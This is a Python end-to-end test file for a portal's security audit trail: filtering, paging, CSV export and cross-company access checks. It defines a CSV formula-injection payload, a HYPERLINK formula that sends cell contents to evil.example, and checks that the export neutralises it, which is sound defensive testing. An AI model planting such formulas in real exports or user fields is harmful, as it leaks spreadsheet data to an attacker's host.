"""The company's security trail for its ASL (/fr/admin/trail, /en/admin/trail), in Chromium on the real services:
filtered by person, action and days (Paris time), paged by its "next page" link, exported as a CSV file for
French Excel in which a name or a reason someone typed never becomes a formula; and nobody else reads it."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import uuid
from pathlib import Path
from zoneinfo import ZoneInfo

import grpc
from portal.identity.v1 import identity_service_pb2 as identity_api
from portal.identity.v1 import identity_service_pb2_grpc

from kit.client import ServiceClient
from tests.e2e import journeys
from tests.e2e.stack import Browser, Stack

from identity.adapters.orm import audit_events

from .test_languages import foreign_text, page_text
from .test_recovery_pages import ASL_PASSWORD, USER_PASSWORD, NewVisitor, Supplier, log_in, open_supplier, posted

PARIS = ZoneInfo("Europe/Paris")
INJECTED_NAME = "=1+1"
INJECTED_REASON = '=HYPERLINK("http://evil.example/?q="&A1,"Cliquez")'


async def seeded_logins(stack: Stack, supplier: Supplier) -> None:
    """60 logins of the user, one an hour from 10 March 2025 08:00 to 12 March 19:00 (Paris), and one just
    outside each end of those days, written straight to identity's trail (a past week, at once)."""
    first = dt.datetime(2025, 3, 10, 8, tzinfo=PARIS)
    moments = [first + dt.timedelta(hours=h) for h in range(60)]
    moments += [dt.datetime(2025, 3, 9, 23, 59, 59, tzinfo=PARIS), dt.datetime(2025, 3, 13, tzinfo=PARIS)]
    async with stack.apps[1].database.write_transaction() as s:
        await s.execute(audit_events.insert(), [dict(
            id=str(uuid.uuid4()), occurred_at=m.astimezone(dt.UTC), action="LOGIN_SUCCEEDED", actor=supplier.user_id,
            subject=supplier.user_id, cofor_root=supplier.root, client_address="198.51.100.7", detail="")
            for m in moments])


async def injected(stack: Stack, supplier: Supplier) -> str:
    """A user named "=1+1 …" created by the ASL, then disabled with a formula as the reason; returns the user."""
    asl = await journeys.log_in(stack, supplier.asl_id, ASL_PASSWORD)
    created = await posted(asl, "/api/v1/users", {
        "given_name": INJECTED_NAME, "family_name": "Formule", "email": f"formula.{supplier.root}@supplier.example",
        "language": "fr"})
    identifier = str(created["account"]["identifier"])  # type: ignore[index]
    async with grpc.aio.insecure_channel(stack.apps[1].target) as channel:  # the reason is no field of the pages
        client = ServiceClient(identity_service_pb2_grpc.IdentityServiceStub(channel), {"gateway": "gw-token"})
        await client.DisableUser(identity_api.DisableUserRequest(identifier=identifier, reason=INJECTED_REASON),
                                 bearer=asl.cookies["__Host-portal_session"])
    return identifier


async def test_an_asl_filters_pages_and_exports_the_trail(stack: Stack, visitors: NewVisitor) -> None:
    supplier = await open_supplier(stack)
    await seeded_logins(stack, supplier)
    formula_user = await injected(stack, supplier)
    asl = await visitors("asl")
    await log_in(asl, supplier.asl_id, ASL_PASSWORD, stack)
    page = await asl.goto("/fr/admin/trail")
    assert await page.locator("h1").inner_text() == "Journal de sécurité"
    assert foreign_text("fr", await page_text(page)) == []  # identity's English details are marked lang="en"
    assert await page.locator(f'#trail tr[data-subject="{formula_user}"]').count() >= 2  # created, disabled

    # French: one person's logins over three days, 50 rows a page.
    await page.locator("#f-person").fill(supplier.user_id.lower())
    await page.get_by_label("Action").select_option(label="Connexion réussie")
    await page.locator("#f-from").fill("2025-03-10")
    await page.locator("#f-to").fill("2025-03-12")
    await asl.submit("Filtrer")
    assert await page.locator("#f-person").input_value() == supplier.user_id
    rows = page.locator("#trail tbody tr")
    assert await rows.count() == 50
    assert {await r.get_attribute("data-action") for r in await rows.all()} == {"LOGIN_SUCCEEDED"}
    assert await rows.first.locator("time").inner_text() == "12 mars 2025 19:00:00"  # the newest, in Paris time
    assert await rows.first.locator(".action").inner_text() == "Connexion réussie"
    assert await rows.first.locator(".who").inner_text() == f"{supplier.user_id}\nEmma Buyer"
    async with page.expect_navigation():
        await page.get_by_role("link", name="Page suivante").click()
    await asl.shot("next-page")
    assert "page=" in page.url and "person=" in page.url and "action=LOGIN_SUCCEEDED" in page.url
    assert await rows.count() == 10  # 60 in those days; the two just outside them are not
    assert await rows.last.locator("time").inner_text() == "10 mars 2025 08:00:00"
    assert await page.get_by_role("link", name="Page suivante").count() == 0

    # English: the same filters, said in English.
    page = await asl.goto(f"/en/admin/trail?person={supplier.user_id}&action=LOGIN_SUCCEEDED&from=2025-03-12"
                          f"&to=2025-03-12")
    assert await page.locator("h1").inner_text() == "Security trail"
    assert await rows.count() == 20  # 00:00 to 19:00
    assert await rows.first.locator("time").inner_text() == "Mar 12, 2025 7:00:00 PM"
    assert await rows.first.locator(".action").inner_text() == "Successful login"
    assert foreign_text("en", await page_text(page)) == []
    await page.locator("#f-person").fill("nobody")
    await page.locator("#f-to").fill("2025-03-01")
    await asl.submit("Filter")
    assert await page.locator("#f-person-error").is_visible() and await page.locator("#f-to-error").is_visible()
    assert await page.locator("#trail").count() == 0

    # The whole trail as a file, in French.
    page = await asl.goto("/fr/admin/trail")
    async with page.expect_download() as info:
        await page.get_by_role("button", name="Exporter en CSV").click()
    download = await info.value
    today = dt.datetime.now(PARIS).date().isoformat()
    assert download.suggested_filename == f"trail-{supplier.root}-{today}.csv"
    data = Path(await download.path()).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with its BOM, for Excel
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert table[0][:4] == ["Date et heure (Europe/Paris)", "Qui", "Nom", "Action"]
    assert ["2025-03-12 19:00:00", supplier.user_id, "Emma Buyer", "Connexion réussie", "LOGIN_SUCCEEDED",
            supplier.user_id, "Emma Buyer", "198.51.100.7", ""] in table
    formula_rows = [r for r in table if r[5] == formula_user]
    assert formula_rows and all(r[6] == f"'{INJECTED_NAME} Formule" for r in formula_rows)
    disabled = [r for r in formula_rows if r[4] == "ACCOUNT_DISABLED"]
    assert [r[8] for r in disabled] == [f"'{INJECTED_REASON}"]
    assert not any(cell and cell[0] in "=+-@\t\r" for r in table for cell in r)  # no cell a spreadsheet would compute
    assert sum(1 for r in table if r[4] == "LOGIN_SUCCEEDED" and r[5] == supplier.user_id) >= 62


async def test_nobody_but_the_companys_asl_reads_its_trail(stack: Stack) -> None:
    mine, theirs = await open_supplier(stack), await open_supplier(stack)
    for path in ("/fr/admin/trail", "/en/admin/trail.csv"):  # an anonymous visitor is sent to log in
        reply = await stack.browser().get(path)
        assert reply.status_code in (302, 303) and "/login" in reply.headers["location"], path
    user = await journeys.log_in(stack, mine.user_id, USER_PASSWORD)  # a user of the company, not its ASL
    for path in ("/fr/admin/trail", "/fr/admin/trail.csv"):
        reply = await user.get(path)
        assert reply.status_code == 403 and "text/html" in reply.headers["content-type"], path
        assert mine.asl_id not in reply.text and 'id="trail"' not in reply.text
    other_asl = await journeys.log_in(stack, theirs.asl_id, ASL_PASSWORD)  # another company's ASL
    for path in (f"/fr/admin/trail?person={mine.asl_id}", f"/fr/admin/trail.csv?person={mine.user_id}",
                 f"/fr/admin/trail?person={mine.user_id}&action=LOGIN_SUCCEEDED&from=2000-01-01"):
        reply = await other_asl.get(path)
        assert reply.status_code == 403 and "text/html" in reply.headers["content-type"], path
        assert 'id="trail"' not in reply.text and 'id="f-person-error"' in reply.text
    own = await other_asl.get(f"/fr/admin/trail.csv?cofor_root={mine.root}&cofor={mine.root}")
    assert own.status_code == 200 and own.headers["content-type"].startswith("text/csv")
    assert theirs.asl_id in own.text and not re.search(f"{mine.asl_id}|{mine.user_id}|{mine.root}", own.text)
    assert f'filename="trail-{theirs.root}-' in own.headers["content-disposition"]
    await _no_page_token_of_theirs(stack, mine, other_asl)


async def _no_page_token_of_theirs(stack: Stack, mine: Supplier, other_asl: Browser) -> None:
    """A next-page token of one company's trail, opened by another company's ASL, shows nothing of the first."""
    asl = await journeys.log_in(stack, mine.asl_id, ASL_PASSWORD)
    async with grpc.aio.insecure_channel(stack.apps[1].target) as channel:
        client = ServiceClient(identity_service_pb2_grpc.IdentityServiceStub(channel), {"gateway": "gw-token"})
        first = await client.ListAuditEvents(identity_api.ListAuditEventsRequest(cofor_root=mine.root, page_size=1),
                                             bearer=asl.cookies["__Host-portal_session"])
    assert first.next_page_token
    page = await other_asl.get(f"/fr/admin/trail?page={first.next_page_token}")  # refused: issued for another trail
    assert page.status_code == 400 and 'id="trail"' not in page.text and 'id="error-summary"' in page.text
    export = await other_asl.get(f"/fr/admin/trail.csv?page={first.next_page_token}")  # a file starts at the top
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    for reply in (page, export):
        assert mine.asl_id not in reply.text and mine.user_id not in reply.text
